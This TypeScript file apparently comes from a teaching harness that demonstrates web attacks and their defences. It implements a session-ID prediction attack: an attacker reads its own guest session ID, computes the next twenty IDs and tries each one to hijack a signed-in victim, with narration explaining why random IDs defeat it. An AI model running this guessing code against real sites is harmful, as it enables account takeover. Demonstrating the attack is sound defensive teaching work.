import { Agent } from './agent.ts';
import type { Attack } from './attack.ts';
import { CannotRun, signedInVictim, tookOver, VICTIM, whoIs } from './attack.ts';

/** GUESSES: how many IDs after its own the attacker tries; room for other visitors who got an ID in between. */
export const GUESSES = 20;

/** SHOWN_END: how much of the end of a guessed ID the narration shows, where a counter's digits change. */
const SHOWN_END = 13;

const BASE64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
const DECIMAL_ID = /^\d+$/;

/**
 * nextIds are the `count` IDs after `seen`, read as a number: in decimal
 * when it is all digits (a counter, a timestamp), else in base64url's own
 * digits. Against IDs from a counter the victim's is among them; against
 * random ones they are as good as any other guess.
 */
export function nextIds(seen: string, count: number): string[] {
  const decimal = DECIMAL_ID.test(seen);
  const base = decimal ? 10n : 64n;
  const digit = (char: string): bigint => BigInt(decimal ? Number(char) : BASE64URL.indexOf(char));
  const start = [...seen].reduce((value, char) => value * base + digit(char), 0n);
  return Array.from({ length: count }, (_, index) => write(start + BigInt(index + 1), decimal, seen.length));
}

function write(value: bigint, decimal: boolean, length: number): string {
  if (decimal) return value.toString().padStart(length, '0');
  let text = '';
  for (let rest = value; text.length < length; rest /= 64n) text = BASE64URL.charAt(Number(rest % 64n)) + text;
  return text;
}

/**
 * Guessable session IDs: the attacker looks at the one ID it can see, its
 * own, works out the ones the server will hand out next, and tries them
 * after the victim has signed in.
 */
export const guessableIds: Attack = {
  defence: 'random-ids',
  title: 'Guessing the next ID',
  async run({ url }, say) {
    const attacker = new Agent(url);
    await attacker.request('POST', '/api/cart', { json: { item: 'bait' } });
    const seen = attacker.sid;
    if (seen === null) throw new CannotRun('the attacker could not start a guest session to see an ID');
    say(`The attacker starts a guest session and looks at its own ID: ${seen}.`);
    await signedInVictim(url);
    say(`The victim signs in as ${VICTIM.username} in a browser of their own; the attacker never sees that ID.`);
    const guesses = nextIds(seen, GUESSES);
    const [first = '', last = ''] = [guesses[0], guesses.at(-1)];
    say(
      `The attacker reads its ID as a number and tries the next ${GUESSES}: the IDs ending …${first.slice(-SHOWN_END)} to …${last.slice(-SHOWN_END)}.`,
    );
    for (const [index, guess] of guesses.entries()) {
      const thief = new Agent(url);
      thief.hold(guess);
      if ((await whoIs(thief)) !== VICTIM.username) continue;
      say(`Guess ${index + 1}, ${thief.shownSid}, is the victim's session.`);
      return tookOver(thief, say);
    }
    say(`None of the ${GUESSES} guesses is a session: each ID is 256 random bits, and one seen says nothing about the next.`);
    return false;
  },
};
